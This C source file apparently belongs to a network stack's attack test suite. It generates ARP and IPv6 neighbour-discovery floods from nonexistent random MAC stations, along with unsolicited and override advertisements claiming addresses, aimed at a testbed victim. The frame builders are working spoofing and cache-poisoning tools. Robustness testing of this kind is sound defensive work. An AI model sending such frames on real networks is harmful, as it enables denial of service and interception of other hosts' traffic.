/*
 * ARP and neighbour discovery: floods of senders that do not exist, and claims to an
 * address that somebody has.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/raw.h"

static const uint8_t everybody[6] = { 255, 255, 255, 255, 255, 255 };

/* A locally administered station that is not there. */
static void
station(struct raw *r, uint8_t mac[6])
{
	mac[0] = 2;
	for (int i = 1; i < 6; i++)
		mac[i] = (uint8_t)raw_random(r);
}

static void
arp(struct raw *r, uint16_t op, uint32_t sender, uint32_t target, const uint8_t to[6])
{
	uint8_t *f = raw_next(r);
	uint8_t mac[6];

	station(r, mac);
	memcpy(f, to, 6);
	memcpy(f + 6, mac, 6);
	memcpy(f + 12, (uint8_t[8]){ 8, 6, 0, 1, 8, 0, 6, 4 }, 8);
	raw_put16(f + 20, op);
	memcpy(f + 22, mac, 6);
	raw_put32(f + 28, sender);
	memcpy(f + 32, op == 2 ? to : (uint8_t[6]){ 0 }, 6);
	raw_put32(f + 38, target);
	raw_push(r, 42);
}

int
attack_arp(struct raw *r, char **arg)
{
	uint64_t count = strtoull(arg[0], NULL, 10);

	for (uint64_t i = 0; i < count; i++) {
		uint32_t someone = (r->victim & ~0xffu) | (3 + raw_below(r, 250));

		switch (i % 4) {
		case 0: /* a question of somebody */
			arp(r, 1, someone, r->victim, everybody);
			break;
		case 1: /* an answer that nobody asked for */
			arp(r, 2, someone, r->victim, r->peer);
			break;
		case 2: /* the client is here now, to everybody (RFC 5227 section 3) */
			arp(r, 1, r->self, r->self, everybody);
			break;
		default: /* and as an answer */
			arp(r, 2, r->self, r->victim, r->peer);
			break;
		}
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}

/* ---- IPv6: the testbed's fd77::/64 ---- */

#define ND_SIZE 32u

static void
net6(uint8_t a[16], uint64_t host)
{
	memset(a, 0, 16);
	a[0] = 0xfd;
	a[1] = 0x77;
	for (int i = 0; i < 8; i++)
		a[8 + i] = (uint8_t)(host >> (56 - 8 * i));
}

static void
nd(struct raw *r, uint8_t type, uint32_t flags, const uint8_t from[16], const uint8_t target[16])
{
	uint8_t *f = raw_next(r), *ip = f + RAW_ETH, *p = ip + 40;
	uint32_t sum = 58 + ND_SIZE;
	uint8_t mac[6];

	station(r, mac);
	memcpy(f, r->peer, 6);
	memcpy(f + 6, mac, 6);
	raw_put16(f + 12, 0x86dd);
	memset(ip, 0, 40 + ND_SIZE);
	ip[0] = 0x60;
	raw_put16(ip + 4, ND_SIZE);
	ip[6] = 58;
	ip[7] = 255;
	memcpy(ip + 8, from, 16);
	net6(ip + 24, 1);
	p[0] = type;
	raw_put32(p + 4, flags);
	memcpy(p + 8, target, 16);
	p[24] = type == 135 ? 1 : 2;
	p[25] = 1;
	memcpy(p + 26, mac, 6);
	for (int i = 8; i < 40; i += 2)
		sum += raw_get16(ip + i);
	raw_put16(p + 2, raw_sum(p, ND_SIZE, sum));
	raw_push(r, RAW_ETH + 40 + ND_SIZE);
}

int
attack_nd(struct raw *r, char **arg)
{
	uint64_t count = strtoull(arg[0], NULL, 10);
	uint8_t someone[16], client[16], victim[16];

	net6(client, 2);
	net6(victim, 1);
	for (uint64_t i = 0; i < count; i++) {
		net6(someone, raw_random(r));
		switch (i % 4) {
		case 0: /* a solicitation of somebody */
			nd(r, 135, 0, someone, victim);
			break;
		case 1: /* an advertisement that nobody asked for */
			nd(r, 136, 0x20000000u, someone, someone);
			break;
		case 2: /* the client is here now: override */
			nd(r, 136, 0x20000000u, client, client);
			break;
		default: /* solicited and override */
			nd(r, 136, 0x60000000u, client, client);
			break;
		}
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}
